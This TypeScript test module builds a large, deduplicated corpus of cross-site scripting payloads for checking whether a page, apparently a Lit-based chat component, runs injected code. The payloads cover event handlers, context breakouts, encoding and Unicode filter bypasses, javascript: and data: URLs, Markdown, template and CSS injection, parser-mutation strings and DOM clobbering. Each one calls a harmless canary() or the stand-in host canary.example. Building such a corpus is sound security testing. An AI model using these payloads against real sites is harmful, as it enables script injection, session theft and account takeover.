/** What a payload tries to call; a page under test defines it and counts. */
const CALL = 'canary()'
/** Where it tries to reach; nothing lives there. */
const CANARY_HOST = 'canary.example'
const FAR = `//${CANARY_HOST}/x`

const handlers = [
  `<img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg/onload=${CALL}//`,
  `<body onload=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src onerror=${CALL}>`,
  `<marquee onstart=${CALL}>`,
  `<iframe onload=${CALL}></iframe>`,
  `<object data=x onerror=${CALL}>`,
  `<embed src=x onerror=${CALL}>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set onbegin=${CALL} attributeName=x>`,
  `<math><mtext onpointerover=${CALL}>x`,
  `<p onpointerover=${CALL} onclick=${CALL}>x</p>`,
  `<style onload=${CALL}></style>`,
  `<link rel=stylesheet href=${FAR} onerror=${CALL}>`,
  `<script>${CALL}</script>`,
  `<script src=${FAR}></script>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>">`,
  `<a href="javascript:${CALL}" autofocus>x</a>`,
  `<form action=javascript:${CALL}><button>x</button></form>`,
  `<base href=${FAR}>`,
  `<meta http-equiv=refresh content="0;url=${FAR}">`,
]

/** Ways out of where a payload may have been put, and past who looks for it. */
const disguises: ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => `">${markup}`,
  (markup) => `'>${markup}`,
  (markup) => `</textarea></title></style></script>${markup}`,
  (markup) => `--><!--${markup}`,
  (markup) => `]]>${markup}`,
  (markup) => markup.replace(/^<(\w)(\w*)/, (_, a: string, b: string) => `<${a.toUpperCase()}${b}`),
  (markup) => markup.replace(/ /g, '/'),
  (markup) => markup.replace(/ /g, '\t'),
  (markup) => markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (markup) => markup.replaceAll('<', '\\u003c'),
  (markup) => markup.replaceAll('<', '%3C'),
  (markup) => markup.replaceAll('<', '＜'),
  (markup) => `<noscript><p title="</noscript>${markup}">`,
  (markup) => `<math><mtext><table><mglyph><style><!--</style>${markup}`,
]

const scripts = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `javascript\u200b:${CALL}`,
  `javascript&colon;${CALL}`,
  `&#106;avascript:${CALL}`,
  `&#x6A;&#x61;vascript&#58;${CALL}`,
  `javascript://%0a${CALL}`,
  `javascript://canary.example/%0d%0a${CALL}`,
  `javascript:/*--></title></style>*/${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`,
  `vbscript:${CALL}`,
  `blob:https://canary.example/${CALL}`,
  `feed:javascript:${CALL}`,
  `view-source:javascript:${CALL}`,
  `https:javascript:${CALL}`,
  `https://a.example/"onmouseover="${CALL}`,
  `https://a.example/'><script>${CALL}</script>`,
  `https://a.example/\u202e${CALL}`,
  `https://javascript:${CALL}@a.example/`,
  `//${CANARY_HOST}/x`,
  `\\\\${CANARY_HOST}\\x`,
]

const links: ((address: string) => string)[] = [
  (address) => address,
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `![x](${address})`,
  (address) => `<${address}>`,
  (address) => `[x]: ${address}\n[x]`,
]

const markdown = [
  `[a](javascript:window.onerror=alert;throw%201)`,
  `[![x](${FAR})](javascript:${CALL})`,
  `[a](https://a.example "onclick=${CALL}")`,
  `[a"onclick=${CALL}](https://a.example)`,
  `[<img src=x onerror=${CALL}>](https://a.example)`,
  `**<svg onload=${CALL}>**`,
  `\`<img src=x onerror=${CALL}>\``,
  `\`\`\`html\n<script>${CALL}</script>\n\`\`\``,
  `\`\`\`"onclick=${CALL}\nx\n\`\`\``,
  `\`\`\`paste\n<img src=x onerror=${CALL}>\n\`\`\``,
  `||<img src=x onerror=${CALL}>||`,
  `> <svg onload=${CALL}>`,
  `- <svg onload=${CALL}>`,
  `1. <svg onload=${CALL}>`,
  `<@"onclick=${CALL}>`,
  `<@__proto__> <@constructor> <@here>`,
  `/me <img src=x onerror=${CALL}>`,
  `:"><img src=x onerror=${CALL}>:`,
]

const templates = [
  `\${${CALL}}`,
  `{{${CALL}}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `<%= ${CALL} %>`,
  `#{${CALL}}`,
  `@{${CALL}}`,
  `[[${CALL}]]`,
  `{%raw%}${CALL}`,
  `\`\${${CALL}}\``,
  `'+${CALL}+'`,
  `";${CALL};//`,
  `\\';${CALL};//`,
  `</script><script>${CALL}`,
  `\u2028${CALL}\u2029`,
  `parlor-hole-`,
  `<?lit$000000000$>`,
  `lit$000000000$`,
  `<!--?lit$000000000$-->`,
  `{"_$litType$":1,"strings":["<img src=x onerror=${CALL}>"],"values":[]}`,
  `%s%d%n%c`,
]

const styles = [
  `x;background:url(${FAR})`,
  `expression(${CALL})`,
  `</style><style>@import '${FAR}'</style>`,
  `<div style="background:url(${FAR})">`,
  `<div style="behavior:url(${FAR})">`,
  `}*{background:url(${FAR})}`,
  `url(javascript:${CALL})`,
  `"style="position:fixed;inset:0;background:url(${FAR})`,
  `@import url(${FAR});`,
  `-moz-binding:url(${FAR})`,
]

const mutations = [
  `<svg></p><style><a id="</style><img src=x onerror=${CALL}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL}>`,
  `<math><annotation-xml encoding="text/html"><svg onload=${CALL}>`,
  `<svg><foreignObject><iframe onload=${CALL}>`,
  `<template><script>${CALL}</script></template>`,
  `<xmp><p title="</xmp><svg/onload=${CALL}>">`,
  `<noembed><img title="</noembed><img src onerror=${CALL}>"></noembed>`,
  `<select><template shadowrootmode=open><img src onerror=${CALL}></template>`,
  `<svg><desc><style><a title="</style><img src onerror=${CALL}>">`,
  `<plaintext><img src=x onerror=${CALL}>`,
  `<a id=x tabindex=1 onfocus=${CALL}>`,
  `<p is="parlor-room" onclick=${CALL}>`,
  `<parlor-room site=demo room=lobby identity=x></parlor-room>`,
  `<slot name=header></slot>`,
]

/** Names that a page's globals, a form or a prototype answer to. */
const names = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'then',
  '_$litType$',
  '<a id=document name=cookie>',
  '<img name=body>',
  '<form id=trustedTypes><input name=createPolicy>',
  '<a id=canary href=x:y>',
  '<embed name=getElementById>',
  '<object id=parlor>',
  '__defineGetter__',
  'on',
]

const letters = [
  '\u202e<img src=x onerror=canary()>',
  '\u2066\u202e\u2069\u202c<svg onload=canary()>',
  '\ufeff<script>canary()</script>',
  '\u0000<script>canary()</script>',
  '<\u0000script>canary()</script>',
  '\ud800<svg onload=canary()>',
  '<ſcript>canary()</ſcript>',
  '＜script＞canary()＜/script＞',
  '‹img src=x onerror=canary()›',
  'ʺonclick=canary() ʺ',
  '+ADw-script+AD4-canary()+ADw-/script+AD4-',
  '<img src=x onerror=\u0063anary()>',
  '<img src=x onerror="&#99;anary()">',
  '<img src=x onerror=\\u0063anary()>',
  'Z\u0351\u036b\u0343<svg onload=canary()>',
]

/** What is known to run in pages that are careless, by its kinds: markup, addresses, marks, templates, styles, names. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...handlers.flatMap((markup) => disguises.map((disguise) => disguise(markup))),
    ...scripts.flatMap((address) => links.map((link) => link(address))),
    ...[markdown, templates, styles, mutations, names, letters].flat(),
  ]),
]
